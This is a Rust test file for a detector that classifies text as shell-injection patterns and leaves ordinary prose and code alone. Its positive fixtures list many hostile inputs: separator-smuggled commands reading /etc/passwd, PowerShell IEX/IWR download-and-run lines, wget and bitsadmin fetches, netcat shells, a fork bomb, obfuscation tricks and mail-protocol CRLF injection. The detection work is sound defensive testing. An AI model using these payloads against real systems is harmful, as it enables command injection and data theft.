use super::*;

#[track_caller]
fn check(text: &str, expect: Option<ShellShape>) {
    let found = shapes(text);
    match expect {
        Some(shape) => {
            assert!(may_have_shape(text, Present::of(text)), "{text:?} passes the gate");
            assert!(found.iter().any(|(known, _)| *known == shape), "{text:?} lacks {shape:?}: {found:?}");
        }
        None => assert!(found.is_empty(), "{text:?} is nothing, yet {found:?}"),
    }
}

#[test]
fn command_lines_have_a_shape() {
    use ShellShape::{Batch, Hint, Indirect, Line, Mail, Pattern, Separated};
    for (text, shape) in [
        (";id", Separated),
        ("x|ls -la", Separated),
        ("127.0.0.1 && whoami", Separated),
        ("$(uname -a)", Separated),
        ("a;w'h'oam\\i", Separated),
        ("a;c$@at /x", Separated),
        ("|getent hosts db.example", Separated),
        ("a\nwget http://x.example/a", Separated),
        ("x; X=1 nc -lvp 4444", Separated),
        ("x;$'id'", Separated),
        ("$'whoami'", Line),
        ("x=`sleep 9`", Separated),
        ("bar & net user", Separated),
        ("10.1.1.1 & date", Hint),
        ("10.1.1.1;date", Separated),
        ("x;id", Separated),
        ("10.0.0.1;id;x", Separated),
        ("';id;'", Separated),
        ("& whoami", Separated),
        ("foo && ls", Separated),
        ("5;sleep 5", Separated),
        ("x;sleep 5", Separated),
        ("&& curl http://x", Separated),
        ("x & calc.exe", Separated),
        ("10.0.0.1 & ping -n 3 10.0.0.1", Separated),
        ("10.0.0.1; cat flag.txt", Separated),
        ("x;python -c 'print(1)'", Separated),
        ("wine & perl -e 'x'", Separated),
        ("Tom & cat /etc/issue", Separated),
        ("^p^i^n^g 1.2.3.4", Line),
        ("I looked; id", Separated),
        ("I looked; ls -la showed", Separated),
        ("I looked; rm x showed", Separated),
        ("x;sort", Hint),
        ("x;cat flag", Hint),
        ("npm install express", Hint),
        ("pip install foo && python app.py", Hint),
        ("nohup ifconfig", Line),
        ("tac /srv/data.txt", Line),
        ("iex(New-Object Net.WebClient).DownloadString(\"http://x.example/a.ps1\")", Line),
        ("iex (iwr http://x.example/a)", Line),
        ("Get-Content C:\\secret.txt", Line),
        ("; IEX(IWR http://x.example/a.ps1 -UseBasicParsing)", Separated),
        ("|iex(iwr http://x.example)", Separated),
        ("; Start-Process calc.exe", Separated),
        ("|Start-Process calc", Separated),
        ("| Get-ChildItem C:\\Users", Separated),
        ("; Get-Content C:\\secret.txt", Separated),
        ("& Remove-Item -Recurse C:\\x", Separated),
        ("& bitsadmin /transfer a http://x.example/a c:\\a", Separated),
        ("|net localgroup administrators", Separated),
        ("& sc query", Separated),
        ("sudo whoami", Line),
        ("sudo reboot", Line),
        ("systemctl stop nginx", Line),
        ("w'g'et flag", Line),
        ("cat flag.txt", Line),
        ("ping x.example", Line),
        ("try | grep -r secret", Separated),
        ("for %x in (*) do del %x", Batch),
        ("if not exist c:\\a.txt echo no", Batch),
        ("if \"%a%\"==\"b\" goto x", Batch),
        ("if 1 equ 1 echo x", Batch),
        ("/b?n/c[a]t x", Pattern),
        ("/e*c/p?sswd", Pattern),
        ("/???/c$@at notes.txt", Pattern),
        ("/???/c$@at /???/p?ss??", Pattern),
        ("w`u`h`u`oami", Line),
        ("who`echo am`i", Line),
        ("x;ifc`u`onfig", Separated),
        ("x;net``stat -an", Separated),
        ("x;net$1stat -an", Separated),
        ("{head,/srv/x}", Pattern),
        ("w{ge,ho}t", Pattern),
        ("n=nc; $n -lp 1", Indirect),
        ("bomb(){ bomb|bomb& };bomb", Indirect),
        ("a\r\nRCPT TO:<x@example.org>", Mail),
        ("a\r\nt1 LOGIN x y", Mail),
    ] {
        check(text, Some(shape));
    }
}

#[test]
fn prose_and_code_have_none() {
    for text in [
        "salt & pepper; find your taste",
        "first; then more words follow",
        "this | that; who knows what it is",
        "wash; rinse; sort the laundry by colour",
        "Tom & sort of Jerry",
        "run `ls -l` to see the files of the directory",
        "find the right size",
        "cat food.jpg",
        "cat (1).png",
        "ssh keys",
        "ssh access request.docx",
        "wget vs curl",
        "php intro.docx",
        "php 8.2",
        "curl tutorial.md",
        "ping pong.png",
        "base64 decoder online",
        "Get-Content reads a file",
        "remove-item",
        "add-item|remove-item",
        "IEX(India)",
        "IEX (the exchange)",
        "Use |grep foo",
        "Try | sort",
        "NullPointerException\n\tat com.acme.Shop.pay(Shop.java:17)",
        "more about us",
        "cat and dog",
        "ping me later",
        "if it exists we use it",
        "for the record (and more)",
        "if a == b {",
        "a[0] / b[1]",
        "{id,name}",
        "/images/*.png",
        "/images/$1?v=$2",
        "the cat`s`pyjamas",
        "cat`s`pyjamas",
        "ls`s` is quoted",
        "don`t cat`s or dog`s",
        "Dear all,\nlast week was fine\nsee you",
        "page=2&id=5&sort=date",
        "Tea &amp; \"more\"",
        "less &lt; more &#38; most",
        "Wine & more",
        "R & python",
        "Sales & host",
        "Fish & chips; at 8",
        "hi; ping me",
        "Python | Ruby | Go",
        "Skills: HTML/CSS; Python; Perl; Ruby",
        "Tom & Jerry; Date & time",
        "cats; cat food",
        "Ask Bob; id needed",
        "we looked there; ls showed nothing",
        "she told me to kill the job; ps showed nothing.",
        "please cat the report; then list it",
        "name; id; date",
        "linux;bash;docker;git",
        "Rock & roll; top 10",
        "Run npm install && npm start",
        "RUN apt-get update && apt-get install -y curl",
        "FROM debian\nCMD [\"node\", \"app.js\"]",
        "| id | ls |",
        "| Name | id | date |\n| --- | --- | --- |\n| a | sort | cat |",
        "data:image/png;base64,iVBORw0KGgo=",
    ] {
        check(text, None);
    }
}

#[test]
fn what_a_sentence_tells_of_is_left_alone_and_what_it_hides_is_not() {
    for text in [
        "To find the process I always use ps aux | grep foo",
        "I usually pipe the output to a filter, for example | grep foo.",
        "Please add a note that people can use `dmesg | grep usb` to see whether it was found.",
        "Use `cd frontend && npm install` before you start the server for the first time.",
        "The build fails for me after git pull && make install, what am I doing wrong?",
        "The log is rotated every day; tail -f shows the wrong file after that",
        "as the docs say:\n\n    systemctl restart nginx\n\nand then reload the page that was open",
        "Could you send me the output of uname -a; lsb_release -a; df -h please? It is for the ticket.",
    ] {
        check(text, None);
    }
    for text in [
        "x | grep foo",
        "hello my friend, how are you today; cat /etc/passwd",
        "please tell us what you think of the shop | whoami",
        "this is a note to the admin; rm -rf x",
        "we are the people of the town; sleep 10",
        "the quick brown fox is over the dog && curl http://x.example/s",
        "I like the list of the shop: ls -la | nc -e x 10.0.0.1 4444",
        "the user is here `; id; `",
        "it is in the name of the king\nwget http://x.example/a",
        "this is what I tell the people of it: ps aux | grep foo; curl http://x.example/s",
    ] {
        check(text, Some(ShellShape::Separated));
    }
}
